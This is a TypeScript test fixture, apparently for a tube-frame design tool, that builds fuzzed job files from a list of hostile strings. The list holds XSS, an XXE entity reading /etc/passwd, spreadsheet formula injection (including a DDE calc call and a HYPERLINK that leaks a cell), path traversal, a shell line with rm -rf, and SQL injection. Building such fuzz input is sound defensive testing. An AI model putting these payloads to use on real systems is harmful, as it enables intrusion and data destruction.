/** Names that want to be more than names, each for one of the programs that meet them, and a small frame that carries them all. */
import type { Draw } from '../reference/oracles/seeded.ts';

const LONG = 20_000;

/** What each wants: to run, to be reckoned, to lead elsewhere, to turn or hide text, to tear a line, to end a string or a record. */
export const HOSTILE: readonly string[] = [
  // A page, XML
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  ']]></text></svg><script xlink:href="//x"/>',
  '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '&lt;b&gt; &amp;amp; &#x41; &bogus; %26lt;',
  "javascript:alert('x')//",
  '<?xml-stylesheet href="x"?><!-- -->',
  // A spreadsheet
  '=HYPERLINK("http://example.test/?"&A1,"x")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  ' =1+1',
  '\t=1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\u2066 \ufeff@SUM(A1:A9)',
  '\r=1+1',
  '\uff1d1+1',
  "=cmd|' /C calc'!A0",
  'a;=1+1;"b',
  '"=1+1"',
  // A file system, a shell, a terminal
  '../../../etc/passwd',
  '..\\..\\evil.bat',
  '/etc/cron.d/x',
  'C:\\CON',
  'CON',
  'nul.txt',
  '.',
  '..',
  '~/.ssh/id',
  'a/b:c*d?e"f<g>h|i',
  '$(reboot) `reboot` ; rm -rf *',
  '%2e%2e%2f %s %n %d %00',
  '\u001b[31mred\u001b[2J\u001b]0;title\u0007',
  '\u009b31m',
  // Direction, what is not seen
  'photo\u202egnp.exe',
  '\u2066\u2067turned\u2069\u2069',
  '\u05e7\u05d5\u05e8\u05d4 \u05e9\u05de\u05d0\u05dc 12',
  '\u0639\u0645\u0648\u062f A1',
  '\u200b\u200d\ufeff\u2060',
  'soft\u00adhyphen\ufe0f',
  // Controls, line ends
  'nul\u0000byte',
  'line\nbreak\r\nnext',
  'next\u0085line\u2028para\u2029graph',
  '\u0007\u0008\u007f',
  // Beyond the plain letters
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467} \u{1f3c1}',
  'Z\u0351\u036b\u0343\u036a\u0302\u036bA\u0334\u0335L\u0321G\u0322O',
  'e\u0301 \u00e9 \ufb01 \u{1d400}',
  '\u4e3b\u30ed\u30fc\u30eb\u30d0\u30fc',
  '\ufffe\uffff',
  '\u{e0001}\u{e0041}\u{10ffff}',
  // Halves of characters
  '\ud800',
  'a\udc00b',
  '\udc00\ud800',
  // DXF, PDF, STEP, glTF, JavaScript objects
  '%%c100 %%uline%%u %%d',
  '\\U+0041 \\M+10000 \\P \\S1/2;',
  '^J^I^M',
  '  0\nSECTION\n  2\nENTITIES',
  '(unbalanced \\) >> endstream endobj /OpenAction << /JS (x) >>',
  ') Tj ET Q',
  "');#1=PRODUCT('x','x','',());ENDSEC;",
  '\\X2\\0041\\X0\\ /* */',
  "''; DROP TABLE tubes; --",
  '__proto__',
  'constructor',
  'toString',
  // Long
  'x'.repeat(LONG),
  'W '.repeat(LONG / 2),
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(LONG / 8),
  '<b>'.repeat(LONG / 3),
  // Nothing to be seen
  ' ',
  '',
];

/** What may stand in an id: the door refuses the rest. */
export const fitsId = (text: string): boolean =>
  text !== '' && text.length <= 200 && !/[\p{Cc}\p{Zl}\p{Zp}\p{Cs}]|'$/u.test(text);

/** Hands out all of them in an order of chance, then all again. */
export function deckOf(draw: Draw): () => string {
  let left: string[] = [];
  return () => {
    if (left.length === 0) left = [...HOSTILE];
    return left.splice(Math.floor(draw.between(0, left.length)), 1)[0]!;
  };
}

/** Straight tubes beside the others: each carries a name to every file. */
const BARS = 6;

/**
 * A frame with a bent hoop on a bender with a thing in its room, two pulls that a finding names, a stay coped to it and its twin, a tube that is
 * wrong so that errors name it, and some bars. Names of members come from `tubeName`, all others from `name`.
 */
export function hostileJob(tubeName: () => string, name: () => string, draw: Draw): Record<string, unknown> {
  const ids = HOSTILE.filter(fitsId);
  let taken = 0;
  // Twice the same would be a fault.
  const id = (): string => `${draw.oneOf(ids).slice(0, 190)}${(taken += 1)}`;
  const [section, die, hoop, batch] = [id(), id(), id(), name()];
  const node = (position: readonly number[]) => ({ id: id(), name: name(), at: { kind: 'fixed', position } });
  const [foot, shoulder, rear] = [node([0, 600, 0]), node([0, 480, 1100]), node([-700, 500, 300])];
  const onHoop = { id: id(), name: name(), at: { kind: 'on', member: hoop, from: 'start', distance: 800 } };
  const short = [node([900, -200, 100]), node([900, 0, 100]), node([850, -150, 140])];
  const bars = Array.from({ length: BARS }, (_, i) => [node([1500, 0, 100 * i]), node([2000, 0, 100 * i])] as const);
  return {
    format: 'cagewright/job',
    version: 1,
    name: name(),
    lengthUnit: draw.oneOf(['in', 'mm']),
    points: [{ id: id(), name: name(), position: [100, 300, 500] }],
    sections: [
      { id: section, name: name(), outerDiameter: 44.45, wall: 3.048, material: draw.oneOf(['dom-1020', name()]) },
    ],
    dies: [
      {
        id: die,
        name: name(),
        outerDiameter: 44.45,
        centrelineRadius: 152.4,
        clampOffset: 114.3,
        leastStraight: 60,
        leastGrip: 150,
        greatestAngle: 120,
        bender: {
          room: [{ name: name(), kind: 'box', centre: [500, 900, 900], size: [240, 240, 1800], rotation: [0, 0, 0] }],
        },
      },
    ],
    nodes: [foot, shoulder, rear, onHoop, ...short, ...bars.flat()],
    members: [
      {
        id: hoop,
        name: tubeName(),
        role: name(),
        path: [foot.id, shoulder.id, `${shoulder.id}'`, `${foot.id}'`],
        section,
        die,
        batch,
        ends: [{ fit: 'plate', normal: [0, 0, 1] }, { fit: 'square' }],
      },
      { id: id(), name: tubeName(), role: name(), path: [onHoop.id, rear.id], section, mirror: true },
      { id: id(), name: tubeName(), path: short.map((each) => each.id), section, die },
      ...bars.map(([from, to]) => ({ id: id(), name: tubeName(), path: [from.id, to.id], section })),
    ],
    envelopes: [{ id: id(), name: name(), kind: 'box', centre: [0, 500, 1000], size: [300, 300, 300], gap: 50 }],
    pulls: [
      { die, section, batch, pulled: 22, net: 20, on: '' },
      { die, section, batch, pulled: 23.4, net: 21, on: '' },
    ],
  };
}
